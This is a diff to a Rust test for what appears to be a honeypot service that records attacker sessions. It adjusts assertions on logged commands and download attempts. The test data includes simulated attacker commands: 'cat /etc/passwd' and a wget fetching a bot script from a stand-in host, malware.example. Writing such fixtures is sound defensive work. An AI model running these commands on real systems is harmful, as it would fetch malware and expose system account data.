@@ -135,7 +135,7 @@ fn the_configured_password_gives_the_shell() {
     assert_eq!(auth.fields.get("outcome"), Some("success"));
     assert_eq!(secret(&auth), ROOT_PW.as_bytes());
     let mut commands = Vec::new();
-    for _ in 0..6 {
+    for _ in 0..5 {
         let c = svc.next("command");
         commands.push(c.fields.get("command").unwrap_or_default().to_owned());
     }
@@ -147,7 +147,6 @@ fn the_configured_password_gives_the_shell() {
             "cat /etc/passwd | grep -c nologin",
             "frobnicate --now",
             "wget http://malware.example/bot.sh -O /tmp/b",
-            "exit"
         ]
     );
     let download = svc.next("download_attempt");
@@ -155,6 +154,9 @@ fn the_configured_password_gives_the_shell() {
         download.fields.get("url"),
         Some("http://malware.example/bot.sh")
     );
+    assert_eq!(download.fields.get("tool"), Some("wget"));
+    let exit = svc.next("command");
+    assert_eq!(exit.fields.get("command"), Some("exit"));
     let session = svc.next("session_recorded");
     assert!(
         session
